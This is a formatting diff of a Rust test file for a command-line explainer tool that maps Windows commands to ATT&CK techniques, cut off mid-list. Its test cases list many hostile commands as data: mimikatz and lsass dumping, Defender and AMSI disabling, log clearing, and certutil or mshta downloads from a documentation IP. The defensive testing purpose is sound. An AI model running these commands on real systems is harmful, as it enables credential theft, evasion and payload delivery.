@@ -21,7 +21,11 @@ fn artefacts(e: &Explanation) -> Vec<String> {
 }
 
 /// (command line, technique IDs any of which may come first, artefacts that must be found).
-type Case = (&'static str, &'static [&'static str], &'static [&'static str]);
+type Case = (
+    &'static str,
+    &'static [&'static str],
+    &'static [&'static str],
+);
 
 fn check(cases: &[Case]) {
     let kb = open();
@@ -40,7 +44,12 @@ fn check(cases: &[Case]) {
             }
         }
     }
-    assert!(failures.is_empty(), "{} failures:\n{}", failures.len(), failures.join("\n"));
+    assert!(
+        failures.is_empty(),
+        "{} failures:\n{}",
+        failures.len(),
+        failures.join("\n")
+    );
 }
 
 const SEED: &str = r#""schtasks.exe" /create /SC ONCE /TN Troj /TR C:\Users\vmadmin\Desktop\WinATP-Intro-Backdoor.exe /ST 13:36 /F"#;
@@ -51,7 +60,12 @@ fn the_mde_schtasks_alert_is_told_as_a_one_time_task_with_a_suspect_payload() {
     assert_eq!(e.program.as_deref(), Some("schtasks.exe"));
     let facts = e.catalogue.as_ref().expect("catalogue facts");
     assert!(facts.ships_with_windows);
-    assert!(facts.expected_paths.iter().any(|p| p.ends_with(r"System32\schtasks.exe")));
+    assert!(
+        facts
+            .expected_paths
+            .iter()
+            .any(|p| p.ends_with(r"System32\schtasks.exe"))
+    );
     let t = &e.techniques[0];
     assert_eq!(t.id, "T1053.005");
     let tactics: Vec<&str> = t.tactics.iter().map(|t| t.id.as_str()).collect();
@@ -74,9 +88,17 @@ fn the_mde_schtasks_alert_is_told_as_a_one_time_task_with_a_suspect_payload() {
     // The payload is the real suspect: a program in the user's Desktop.
     let payload = &e.nested[0];
     assert!(payload.program.is_none());
-    assert!(payload.assessment.iter().any(|n| n.kind == "suspect"), "{:?}", payload.assessment);
+    assert!(
+        payload.assessment.iter().any(|n| n.kind == "suspect"),
+        "{:?}",
+        payload.assessment
+    );
     let arts = artefacts(&e);
-    for a in ["Troj", r"C:\Users\vmadmin\Desktop\WinATP-Intro-Backdoor.exe", "13:36"] {
+    for a in [
+        "Troj",
+        r"C:\Users\vmadmin\Desktop\WinATP-Intro-Backdoor.exe",
+        "13:36",
+    ] {
         assert!(arts.iter().any(|x| x == a), "{a} missing from {arts:?}");
     }
     assert!(e.investigate.iter().any(|i| i.contains("4698")));
@@ -88,7 +110,11 @@ fn spans_underline_the_argument_in_the_original_line() {
     let e = explain_en(SEED);
     let chars: Vec<char> = SEED.chars().collect();
     let text = |s: usize, e: usize| chars[s..e].iter().collect::<String>();
-    let tr = e.arguments.iter().find(|a| a.switch.as_deref() == Some("/tr")).expect("/tr");
+    let tr = e
+        .arguments
+        .iter()
+        .find(|a| a.switch.as_deref() == Some("/tr"))
+        .expect("/tr");
     assert_eq!(
         text(tr.start, tr.end),
         r"/TR C:\Users\vmadmin\Desktop\WinATP-Intro-Backdoor.exe"
@@ -103,10 +129,17 @@ fn japanese_output_uses_the_analysts_words() {
     let e = explain::explain(&open(), SEED, Lang::Ja).expect("explain");
     let t = &e.techniques[0];
     assert!(t.name_ja.as_deref().is_some_and(|n| n.contains("タスク")));
-    assert!(e.assessment.iter().any(|n| attack_kb::text::has_japanese(&n.text)));
+    assert!(
+        e.assessment
+            .iter()
+            .any(|n| attack_kb::text::has_japanese(&n.text))
+    );
     let out = stdout(&kb(&["explain", "--lang", "ja", SEED]));
     assert!(out.contains("T1053.005"), "{out}");
-    assert!(out.contains("このコマンドの動作") && out.contains("評価"), "{out}");
+    assert!(
+        out.contains("このコマンドの動作") && out.contains("評価"),
+        "{out}"
+    );
     assert!(out.contains("永続化") || out.contains("常設"), "{out}");
 }
 
@@ -114,7 +147,10 @@ fn japanese_output_uses_the_analysts_words() {
 fn nested_and_encoded_commands_are_explained_in_turn() {
     // cmd /c wrapping an encoded PowerShell that turns off Defender's real-time monitoring.
     let script = "Set-MpPreference -DisableRealtimeMonitoring $true";
-    let utf16: Vec<u8> = script.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
+    let utf16: Vec<u8> = script
+        .encode_utf16()
+        .flat_map(|u| u.to_le_bytes())
+        .collect();
     let b64 = base64_encode(&utf16);
     let line = format!(r#"cmd.exe /c "powershell.exe -nop -w hidden -enc {b64}""#);
     let e = explain_en(&line);
@@ -134,14 +170,19 @@ fn base64_encode(bytes: &[u8]) -> String {
 fn an_unknown_program_is_said_to_be_unknown_and_still_read() {
     let e = explain_en(r"C:\Users\Public\svch0st.exe -connect 198.51.100.7:443 -k");
     assert!(e.program.is_none());
-    assert!(e.assessment.iter().any(|n| n.text.contains("not in kb's catalogue")));
+    assert!(
+        e.assessment
+            .iter()
+            .any(|n| n.text.contains("not in kb's catalogue"))
+    );
     assert!(e.assessment.iter().any(|n| n.kind == "suspect"));
     assert!(artefacts(&e).iter().any(|a| a == "198.51.100.7"));
 }
 
 #[test]
 fn a_renamed_tool_is_recognised_by_its_arguments() {
-    let e = explain_en(r#"C:\ProgramData\m64.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#);
+    let e =
+        explain_en(r#"C:\ProgramData\m64.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#);
     assert_eq!(e.program.as_deref(), Some("mimikatz.exe"));
     assert!(e.catalogue.as_ref().is_some_and(|c| c.renamed));
     assert_eq!(e.techniques[0].id, "T1003.001");
@@ -150,23 +191,42 @@ fn a_renamed_tool_is_recognised_by_its_arguments() {
 #[test]
 fn search_with_a_command_line_leads_with_the_program_and_its_technique() {
     let kb = open();
-    let hits = ids(&search(&kb, r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Upd /d C:\Users\Public\u.exe /f"));
+    let hits = ids(&search(
+        &kb,
+        r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Upd /d C:\Users\Public\u.exe /f",
+    ));
     assert_eq!(&hits[..2], ["reg.exe", "T1547.001"]);
     // Path parts, drive letters and switches match no names.
-    let hits = ids(&search(&kb, r"net use \\fs01.corp.local\C$ /user:corp\admin /persistent:no"));
+    let hits = ids(&search(
+        &kb,
+        r"net use \\fs01.corp.local\C$ /user:corp\admin /persistent:no",
+    ));
     assert_eq!(hits[0], "net.exe");
     for unrelated in ["T1078.003", "T1564.002"] {
-        assert!(!hits.contains(&unrelated.to_string()), "{unrelated} in {hits:?}");
+        assert!(
+            !hits.contains(&unrelated.to_string()),
+            "{unrelated} in {hits:?}"
+        );
     }
     let hits = ids(&search(&kb, r"cmd.exe /c C:\Users\x\f.exe /f"));
-    assert!(!hits.iter().any(|h| h == "S0030" || h.starts_with("S0") && h.len() == 5 && false));
+    assert!(
+        !hits
+            .iter()
+            .any(|h| h == "S0030" || h.starts_with("S0") && h.len() == 5 && false)
+    );
 }
 
 #[test]
 fn cli_reads_standard_input_line_by_line_and_writes_json() {
     use std::io::Write;
     let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_kb"))
-        .args(["--index", index_dir().to_str().expect("utf-8"), "explain", "--json", "-"])
+        .args([
+            "--index",
+            index_dir().to_str().expect("utf-8"),
+            "explain",
+            "--json",
+            "-",
+        ])
         .env("LANG", "C")
         .stdin(std::process::Stdio::piped())
         .stdout(std::process::Stdio::piped())
@@ -221,42 +281,150 @@ fn hostile_input_never_fails_and_stays_bounded() {
 #[test]
 fn persistence_commands() {
     check(&[
-        (r"schtasks /create /tn Upd /tr C:\ProgramData\upd.exe /sc onlogon /ru SYSTEM", &["T1053.005"], &[r"C:\ProgramData\upd.exe", "Upd"]),
-        (r#"schtasks.exe /Create /F /SC DAILY /ST 09:00 /TN WinUpdate /TR "C:\Windows\Temp\a.bat""#, &["T1053.005"], &["WinUpdate"]),
+        (
+            r"schtasks /create /tn Upd /tr C:\ProgramData\upd.exe /sc onlogon /ru SYSTEM",
+            &["T1053.005"],
+            &[r"C:\ProgramData\upd.exe", "Upd"],
+        ),
+        (
+            r#"schtasks.exe /Create /F /SC DAILY /ST 09:00 /TN WinUpdate /TR "C:\Windows\Temp\a.bat""#,
+            &["T1053.005"],
+            &["WinUpdate"],
+        ),
         (r"at \\10.1.1.5 22:00 C:\temp\x.exe", &["T1053.002"], &[]),
-        (r#"sc create UpdSvc binPath= "C:\Users\Public\svc.exe" start= auto"#, &["T1543.003"], &[r"C:\Users\Public\svc.exe"]),
-        (r#"sc.exe config wuauserv binPath= "cmd /c C:\temp\p.exe""#, &["T1543.003"], &[r"C:\temp\p.exe"]),
-        (r#"reg add "HKLM\Software\Microsoft\Windows\CurrentVersion\RunOnce" /v x /t REG_SZ /d "C:\temp\r.exe" /f"#, &["T1547.001"], &[r"C:\temp\r.exe"]),
-        (r#"reg.exe add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Userinit /d "C:\Windows\system32\userinit.exe,C:\temp\u.exe" /f"#, &["T1547.004"], &[]),
-        (r#"reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /t REG_SZ /d "C:\windows\system32\cmd.exe" /f"#, &["T1546.008", "T1546.012"], &[]),
-        (r#"reg add "HKLM\SYSTEM\CurrentControlSet\Control\Lsa" /v "Security Packages" /t REG_MULTI_SZ /d evil /f"#, &["T1547.005"], &[]),
-        (r"powershell Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name Upd -Value 'C:\Users\Public\u.exe'", &["T1547.001"], &[]),
-        (r#"wmic /namespace:"\\root\subscription" PATH CommandLineEventConsumer CREATE Name="c", CommandLineTemplate="C:\temp\p.exe""#, &["T1546.003"], &[]),
-        (r#"reg add HKCU\Software\Classes\CLSID\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}\InprocServer32 /ve /d C:\temp\x.dll /f"#, &["T1546.015"], &[]),
-        (r#"powershell -c "New-Service -Name Upd -BinaryPathName C:\ProgramData\u.exe""#, &["T1543.003"], &[]),
-        (r#"powershell Register-ScheduledTask -TaskName Upd -Action (New-ScheduledTaskAction -Execute C:\temp\u.exe) -Trigger (New-ScheduledTaskTrigger -AtLogon)"#, &["T1053.005"], &[]),
-        (r#"netsh add helper C:\temp\helper.dll"#, &["T1546.007"], &[r"C:\temp\helper.dll"]),
+        (
+            r#"sc create UpdSvc binPath= "C:\Users\Public\svc.exe" start= auto"#,
+            &["T1543.003"],
+            &[r"C:\Users\Public\svc.exe"],
+        ),
+        (
+            r#"sc.exe config wuauserv binPath= "cmd /c C:\temp\p.exe""#,
+            &["T1543.003"],
+            &[r"C:\temp\p.exe"],
+        ),
+        (
+            r#"reg add "HKLM\Software\Microsoft\Windows\CurrentVersion\RunOnce" /v x /t REG_SZ /d "C:\temp\r.exe" /f"#,
+            &["T1547.001"],
+            &[r"C:\temp\r.exe"],
+        ),
+        (
+            r#"reg.exe add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Userinit /d "C:\Windows\system32\userinit.exe,C:\temp\u.exe" /f"#,
+            &["T1547.004"],
+            &[],
+        ),
+        (
+            r#"reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /t REG_SZ /d "C:\windows\system32\cmd.exe" /f"#,
+            &["T1546.008", "T1546.012"],
+            &[],
+        ),
+        (
+            r#"reg add "HKLM\SYSTEM\CurrentControlSet\Control\Lsa" /v "Security Packages" /t REG_MULTI_SZ /d evil /f"#,
+            &["T1547.005"],
+            &[],
+        ),
+        (
+            r"powershell Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name Upd -Value 'C:\Users\Public\u.exe'",
+            &["T1547.001"],
+            &[],
+        ),
+        (
+            r#"wmic /namespace:"\\root\subscription" PATH CommandLineEventConsumer CREATE Name="c", CommandLineTemplate="C:\temp\p.exe""#,
+            &["T1546.003"],
+            &[],
+        ),
+        (
+            r#"reg add HKCU\Software\Classes\CLSID\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}\InprocServer32 /ve /d C:\temp\x.dll /f"#,
+            &["T1546.015"],
+            &[],
+        ),
+        (
+            r#"powershell -c "New-Service -Name Upd -BinaryPathName C:\ProgramData\u.exe""#,
+            &["T1543.003"],
+            &[],
+        ),
+        (
+            r#"powershell Register-ScheduledTask -TaskName Upd -Action (New-ScheduledTaskAction -Execute C:\temp\u.exe) -Trigger (New-ScheduledTaskTrigger -AtLogon)"#,
+            &["T1053.005"],
+            &[],
+        ),
+        (
+            r#"netsh add helper C:\temp\helper.dll"#,
+            &["T1546.007"],
+            &[r"C:\temp\helper.dll"],
+        ),
     ]);
 }
 
 #[test]
 fn credential_access_commands() {
     check(&[
-        (r"rundll32 C:\windows\system32\comsvcs.dll MiniDump 712 C:\Users\Public\o.dmp full", &["T1003.001"], &[r"C:\Users\Public\o.dmp"]),
-        (r"procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp", &["T1003.001"], &[r"C:\Windows\Temp\ls.dmp"]),
-        (r"reg save HKLM\SYSTEM C:\Users\Public\sys.hiv", &["T1003.002"], &[r"C:\Users\Public\sys.hiv"]),
-        (r"reg.exe save hklm\security C:\temp\sec.hiv /y", &["T1003.004", "T1003.002"], &[]),
-        (r#"ntdsutil.exe "activate instance ntds" ifm "create full C:\Windows\Temp\n" quit quit"#, &["T1003.003"], &[]),
-        (r#"mimikatz.exe "lsadump::dcsync /domain:corp.local /user:krbtgt" exit"#, &["T1003.006"], &[]),
-        (r#"mimikatz "sekurlsa::pth /user:admin /domain:corp /ntlm:cc36cf7a8514893efccd332446158b1a""#, &["T1550.002"], &[]),
-        (r"Rubeus.exe kerberoast /outfile:C:\temp\h.txt", &["T1558.003"], &[]),
-        (r"rubeus.exe asreproast /format:hashcat", &["T1558.004"], &[]),
+        (
+            r"rundll32 C:\windows\system32\comsvcs.dll MiniDump 712 C:\Users\Public\o.dmp full",
+            &["T1003.001"],
+            &[r"C:\Users\Public\o.dmp"],
+        ),
+        (
+            r"procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp",
+            &["T1003.001"],
+            &[r"C:\Windows\Temp\ls.dmp"],
+        ),
+        (
+            r"reg save HKLM\SYSTEM C:\Users\Public\sys.hiv",
+            &["T1003.002"],
+            &[r"C:\Users\Public\sys.hiv"],
+        ),
+        (
+            r"reg.exe save hklm\security C:\temp\sec.hiv /y",
+            &["T1003.004", "T1003.002"],
+            &[],
+        ),
+        (
+            r#"ntdsutil.exe "activate instance ntds" ifm "create full C:\Windows\Temp\n" quit quit"#,
+            &["T1003.003"],
+            &[],
+        ),
+        (
+            r#"mimikatz.exe "lsadump::dcsync /domain:corp.local /user:krbtgt" exit"#,
+            &["T1003.006"],
+            &[],
+        ),
+        (
+            r#"mimikatz "sekurlsa::pth /user:admin /domain:corp /ntlm:cc36cf7a8514893efccd332446158b1a""#,
+            &["T1550.002"],
+            &[],
+        ),
+        (
+            r"Rubeus.exe kerberoast /outfile:C:\temp\h.txt",
+            &["T1558.003"],
+            &[],
+        ),
+        (
+            r"rubeus.exe asreproast /format:hashcat",
+            &["T1558.004"],
+            &[],
+        ),
         (r"setspn.exe -T corp.local -Q */*", &["T1558.003"], &[]),
-        (r"reg query HKLM /f password /t REG_SZ /s", &["T1552.002"], &[]),
-        (r#"findstr /si password *.xml *.ini *.txt *.config"#, &["T1552.001"], &[]),
+        (
+            r"reg query HKLM /f password /t REG_SZ /s",
+            &["T1552.002"],
+            &[],
+        ),
+        (
+            r#"findstr /si password *.xml *.ini *.txt *.config"#,
+            &["T1552.001"],
+            &[],
+        ),
         (r"cmdkey /list", &["T1078", "T1555.004", "T1087"], &[]),
-        (r#"vaultcmd /listcreds:"Windows Credentials" /all"#, &["T1555.004"], &[]),
-        (r"esentutl.exe /y /vss C:\Windows\NTDS\ntds.dit /d C:\Users\Public\n.dit", &["T1003.003"], &[]),
+        (
+            r#"vaultcmd /listcreds:"Windows Credentials" /all"#,
+            &["T1555.004"],
+            &[],
+        ),
+        (
+            r"esentutl.exe /y /vss C:\Windows\NTDS\ntds.dit /d C:\Users\Public\n.dit",
+            &["T1003.003"],
+            &[],
+        ),
         (r"lazagne.exe all", &["T1555"], &[]),
         (r"sqldumper.exe 540 0 0x01100", &["T1003.001", "T1003"], &[]),
     ]);
@@ -266,26 +434,94 @@ fn credential_access_commands() {
 fn defence_evasion_commands() {
     check(&[
         (r"wevtutil.exe cl System", &["T1070.001"], &[]),
-        (r"wevtutil sl Microsoft-Windows-PowerShell/Operational /e:false", &["T1562.002"], &[]),
-        (r"vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB", &["T1490"], &[]),
-        (r"bcdedit.exe /set {default} recoveryenabled no", &["T1490"], &[]),
-        (r"netsh firewall set opmode mode=disable", &["T1562.004"], &[]),
-        (r#"netsh advfirewall firewall add rule name="RDP" dir=in action=allow protocol=TCP localport=3389"#, &["T1562.004"], &[]),
-        (r#"powershell.exe -ExecutionPolicy Bypass -Command "Set-MpPreference -DisableIOAVProtection $true""#, &["T1562.001"], &[]),
-        (r"powershell Add-MpPreference -ExclusionProcess 'rundll32.exe'", &["T1562.001"], &[]),
-        (r#"reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f"#, &["T1562.001"], &[]),
+        (
+            r"wevtutil sl Microsoft-Windows-PowerShell/Operational /e:false",
+            &["T1562.002"],
+            &[],
+        ),
+        (
+            r"vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB",
+            &["T1490"],
+            &[],
+        ),
+        (
+            r"bcdedit.exe /set {default} recoveryenabled no",
+            &["T1490"],
+            &[],
+        ),
+        (
+            r"netsh firewall set opmode mode=disable",
+            &["T1562.004"],
+            &[],
+        ),
+        (
+            r#"netsh advfirewall firewall add rule name="RDP" dir=in action=allow protocol=TCP localport=3389"#,
+            &["T1562.004"],
+            &[],
+        ),
+        (
+            r#"powershell.exe -ExecutionPolicy Bypass -Command "Set-MpPreference -DisableIOAVProtection $true""#,
+            &["T1562.001"],
+            &[],
+        ),
+        (
+            r"powershell Add-MpPreference -ExclusionProcess 'rundll32.exe'",
+            &["T1562.001"],
+            &[],
+        ),
+        (
+            r#"reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f"#,
+            &["T1562.001"],
+            &[],
+        ),
         (r"sc stop WinDefend", &["T1562.001", "T1489"], &[]),
-        (r"attrib.exe +h +s C:\ProgramData\x.exe", &["T1564.001"], &[r"C:\ProgramData\x.exe"]),
-        (r"icacls C:\Windows\System32\utilman.exe /grant administrators:F", &["T1222.001"], &[]),
-        (r"certutil.exe -decode C:\Users\Public\p.txt C:\Users\Public\p.exe", &["T1140"], &[r"C:\Users\Public\p.exe"]),
-        (r"certutil -encode C:\temp\data.zip C:\temp\data.b64", &["T1027.013"], &[]),
-        (r#"cmd /c echo payload > C:\Users\Public\desktop.ini:hide.exe"#, &["T1564.004"], &[r"C:\Users\Public\desktop.ini:hide.exe"]),
+        (
+            r"attrib.exe +h +s C:\ProgramData\x.exe",
+            &["T1564.001"],
+            &[r"C:\ProgramData\x.exe"],
+        ),
+        (
+            r"icacls C:\Windows\System32\utilman.exe /grant administrators:F",
+            &["T1222.001"],
+            &[],
+        ),
+        (
+            r"certutil.exe -decode C:\Users\Public\p.txt C:\Users\Public\p.exe",
+            &["T1140"],
+            &[r"C:\Users\Public\p.exe"],
+        ),
+        (
+            r"certutil -encode C:\temp\data.zip C:\temp\data.b64",
+            &["T1027.013"],
+            &[],
+        ),
+        (
+            r#"cmd /c echo payload > C:\Users\Public\desktop.ini:hide.exe"#,
+            &["T1564.004"],
+            &[r"C:\Users\Public\desktop.ini:hide.exe"],
+        ),
         (r"fsutil usn deletejournal /d C:", &["T1070"], &[]),
-        (r"fsutil behavior set SymlinkEvaluation R2L:1 R2R:1", &["T1222.001"], &[]),
+        (
+            r"fsutil behavior set SymlinkEvaluation R2L:1 R2R:1",
+            &["T1222.001"],
+            &[],
+        ),
         (r"taskkill /f /im MsMpEng.exe", &["T1562.001"], &[]),
-        (r#"reg add "HKLM\System\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f"#, &["T1021.001", "T1112"], &[]),
-        (r"powershell Remove-Item (Get-PSReadlineOption).HistorySavePath", &["T1070.003"], &[]),
-        (r#"powershell -c "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)""#, &["T1562.001"], &[]),
+        (
+            r#"reg add "HKLM\System\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f"#,
+            &["T1021.001", "T1112"],
+            &[],
+        ),
+        (
+            r"powershell Remove-Item (Get-PSReadlineOption).HistorySavePath",
+            &["T1070.003"],
+            &[],
+        ),
+        (
+            r#"powershell -c "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)""#,
+            &["T1562.001"],
+            &[],
+        ),
         (r"cipher /w:C:\Users", &["T1485", "T1070.004"], &[]),
         (r"del /f /q C:\temp\*.log", &["T1070.004"], &[]),
     ]);
@@ -294,35 +530,123 @@ fn defence_evasion_commands() {
 #[test]
 fn proxy_execution_and_download_commands() {
     check(&[
-        (r#"mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")(window.close)"#, &["T1218.005"], &[]),
-        (r"mshta https://198.51.100.9/run.hta", &["T1218.005"], &["https://198.51.100.9/run.hta"]),
-        (r"regsvr32.exe /s /u /i:https://198.51.100.9/x.sct scrobj.dll", &["T1218.010"], &["https://198.51.100.9/x.sct"]),
-        (r"rundll32.exe shell32.dll,Control_RunDLL C:\temp\x.cpl", &["T1218.011", "T1218.002"], &[]),
-        (r#"rundll32.exe url.dll,OpenURL "C:\temp\x.hta""#, &["T1218.011"], &[]),
-        (r"msiexec.exe /quiet /i https://198.51.100.9/p.msi", &["T1218.007"], &["https://198.51.100.9/p.msi"]),
-        (r"odbcconf.exe /a {regsvr C:\temp\x.dll}", &["T1218.008"], &[]),
-        (r"InstallUtil.exe /logfile= /LogToConsole=false /U C:\temp\x.dll", &["T1218.004"], &[]),
+        (
+            r#"mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")(window.close)"#,
+            &["T1218.005"],
+            &[],
+        ),
+        (
+            r"mshta https://198.51.100.9/run.hta",
+            &["T1218.005"],
+            &["https://198.51.100.9/run.hta"],
+        ),
+        (
+            r"regsvr32.exe /s /u /i:https://198.51.100.9/x.sct scrobj.dll",
+            &["T1218.010"],
+            &["https://198.51.100.9/x.sct"],
+        ),
+        (
+            r"rundll32.exe shell32.dll,Control_RunDLL C:\temp\x.cpl",
+            &["T1218.011", "T1218.002"],
+            &[],
+        ),
+        (
+            r#"rundll32.exe url.dll,OpenURL "C:\temp\x.hta""#,
+            &["T1218.011"],
+            &[],
+        ),
+        (
+            r"msiexec.exe /quiet /i https://198.51.100.9/p.msi",
+            &["T1218.007"],
+            &["https://198.51.100.9/p.msi"],
+        ),
+        (
+            r"odbcconf.exe /a {regsvr C:\temp\x.dll}",
+            &["T1218.008"],
+            &[],
+        ),
+        (
+            r"InstallUtil.exe /logfile= /LogToConsole=false /U C:\temp\x.dll",
+            &["T1218.004"],
+            &[],
+        ),
         (r"regsvcs.exe C:\temp\x.dll", &["T1218.009"], &[]),
-        (r"MSBuild.exe C:\Users\Public\build.xml", &["T1127.001"], &[]),
+        (
+            r"MSBuild.exe C:\Users\Public\build.xml",
+            &["T1127.001"],
+            &[],
+        ),
         (r"cmstp.exe /ni /s C:\temp\x.inf", &["T1218.003"], &[]),
         (r"control.exe C:\temp\x.cpl", &["T1218.002"], &[]),
         (r"pcalua.exe -a C:\temp\x.exe", &["T1202"], &[]),
-        (r#"forfiles /p c:\windows\system32 /m notepad.exe /c "cmd /c calc.exe""#, &["T1202"], &[]),
-        (r"certutil.exe -urlcache -f https://198.51.100.9/a.exe C:\Users\Public\a.exe", &["T1105"], &["https://198.51.100.9/a.exe", r"C:\Users\Public\a.exe"]),
-        (r"certutil -verifyctl -split -f https://198.51.100.9/a.exe", &["T1105"], &[]),
-        (r"bitsadmin /create j & bitsadmin /addfile j https://198.51.100.9/a.exe C:\temp\a.exe & bitsadmin /resume j", &["T1197", "T1105"], &[]),
-        (r"powershell (New-Object Net.WebClient).DownloadFile('https://198.51.100.9/a.exe','C:\Users\Public\a.exe')", &["T1105"], &[]),
-        (r"powershell -c iwr https://198.51.100.9/a.ps1 -OutFile $env:TEMP\a.ps1", &["T1105"], &[]),
-        (r"powershell Start-BitsTransfer -Source https://198.51.100.9/a.exe -Destination C:\temp\a.exe", &["T1197", "T1105"], &[]),
-        (r"curl.exe -k -o C:\temp\a.exe https://198.51.100.9/a.exe", &["T1105"], &[]),
-        (r"esentutl.exe /y \\198.51.100.9\share\a.exe /d C:\temp\a.exe /o", &["T1105", "T1570"], &[]),
-        (r"expand \\198.51.100.9\share\a.cab C:\temp\a.exe", &["T1105", "T1140"], &[]),
-        (r"wscript.exe //e:jscript C:\temp\a.txt", &["T1059.007"], &[]),
+        (
+            r#"forfiles /p c:\windows\system32 /m notepad.exe /c "cmd /c calc.exe""#,
+            &["T1202"],
+            &[],
+        ),
+        (
+            r"certutil.exe -urlcache -f https://198.51.100.9/a.exe C:\Users\Public\a.exe",
+            &["T1105"],
+            &["https://198.51.100.9/a.exe", r"C:\Users\Public\a.exe"],
+        ),
+        (
+            r"certutil -verifyctl -split -f https://198.51.100.9/a.exe",
+            &["T1105"],
+            &[],
+        ),
+        (
+            r"bitsadmin /create j & bitsadmin /addfile j https://198.51.100.9/a.exe C:\temp\a.exe & bitsadmin /resume j",
+            &["T1197", "T1105"],
+            &[],
+        ),
+        (
+            r"powershell (New-Object Net.WebClient).DownloadFile('https://198.51.100.9/a.exe','C:\Users\Public\a.exe')",
+            &["T1105"],
+            &[],
+        ),
+        (
+            r"powershell -c iwr https://198.51.100.9/a.ps1 -OutFile $env:TEMP\a.ps1",
+            &["T1105"],
+            &[],
+        ),
+        (
+            r"powershell Start-BitsTransfer -Source https://198.51.100.9/a.exe -Destination C:\temp\a.exe",
+            &["T1197", "T1105"],
+            &[],
+        ),
+        (
+            r"curl.exe -k -o C:\temp\a.exe https://198.51.100.9/a.exe",
+            &["T1105"],
+            &[],
+        ),
+        (
+            r"esentutl.exe /y \\198.51.100.9\share\a.exe /d C:\temp\a.exe /o",
+            &["T1105", "T1570"],
+            &[],
+        ),
+        (
+            r"expand \\198.51.100.9\share\a.cab C:\temp\a.exe",
+            &["T1105", "T1140"],
+            &[],
+        ),
+        (
+            r"wscript.exe //e:jscript C:\temp\a.txt",
+            &["T1059.007"],
+            &[],
+        ),
         (r"cscript.exe C:\Users\Public\a.vbs", &["T1059.005"], &[]),
-        (r"powershell.exe -NoP -sta -NonI -W Hidden -File C:\Users\Public\a.ps1", &["T1059.001"], &[r"C:\Users\Public\a.ps1"]),
+        (
+            r"powershell.exe -NoP -sta -NonI -W Hidden -File C:\Users\Public\a.ps1",
+            &["T1059.001"],
+            &[r"C:\Users\Public\a.ps1"],
+        ),
         (r"hh.exe https://198.51.100.9/a.chm", &["T1218.001"], &[]),
         (r"msxsl.exe C:\temp\c.xml C:\temp\c.xsl", &["T1220"], &[]),
-        (r#"wmic os get /format:"https://198.51.100.9/a.xsl""#, &["T1220"], &[]),
+        (
+            r#"wmic os get /format:"https://198.51.100.9/a.xsl""#,
+            &["T1220"],
+            &[],
+        ),
     ]);
 }
 
@@ -331,7 +655,11 @@ fn discovery_lateral_and_other_commands() {
     check(&[
         (r"net localgroup administrators", &["T1069.001"], &[]),
         (r"net user /domain", &["T1087.002"], &[]),
-        (r"net user svc_b Winter2024! /add /domain", &["T1136.002"], &[]),
+        (
+            r"net user svc_b Winter2024! /add /domain",
+            &["T1136.002"],
+            &[],
+        ),
         (r"net share", &["T1135"], &[]),
         (r#"net stop "Sophos Agent""#, &["T1489", "T1562.001"], &[]),
         (r"nltest /dclist:corp.local", &["T1018"], &[]),
@@ -342,25 +670,61 @@ fn discovery_lateral_and_other_commands() {
         (r"netstat -anob", &["T1049"], &[]),
         (r"tasklist /svc", &["T1007", "T1057"], &[]),
         (r"wmic process get name,processid", &["T1057"], &[]),
-        (r#"wmic /node:10.0.0.7 /user:corp\adm process call create "cmd /c C:\temp\x.exe""#, &["T1047"], &["10.0.0.7"]),
+        (
+            r#"wmic /node:10.0.0.7 /user:corp\adm process call create "cmd /c C:\temp\x.exe""#,
+            &["T1047"],
+            &["10.0.0.7"],
+        ),
         (r"systeminfo /s 10.0.0.7", &["T1082"], &[]),
         (r"dsquery computer -limit 0", &["T1018"], &[]),
         (r"AdFind.exe -f objectcategory=person", &["T1087.002"], &[]),
-        (r"PsExec64.exe \\10.0.0.7 -u corp\adm -p P@ss -s cmd.exe", &["T1569.002", "T1021.002"], &["10.0.0.7"]),
+        (
+            r"PsExec64.exe \\10.0.0.7 -u corp\adm -p P@ss -s cmd.exe",
+            &["T1569.002", "T1021.002"],
+            &["10.0.0.7"],
+        ),
         (r"winrs -r:srv01 ipconfig", &["T1021.006"], &[]),
         (r"mstsc.exe /v:10.0.0.7 /admin", &["T1021.001"], &[]),
         (r"tscon 2 /dest:rdp-tcp#0", &["T1563.002"], &[]),
-        (r"powershell Invoke-Command -ComputerName srv01 -ScriptBlock { whoami }", &["T1021.006"], &[]),
+        (
+            r"powershell Invoke-Command -ComputerName srv01 -ScriptBlock { whoami }",
+            &["T1021.006"],
+            &[],
+        ),
         (r"powershell Get-ADComputer -Filter *", &["T1018"], &[]),
-        (r"powershell Get-LocalGroupMember -Group Administrators", &["T1069.001"], &[]),
+        (
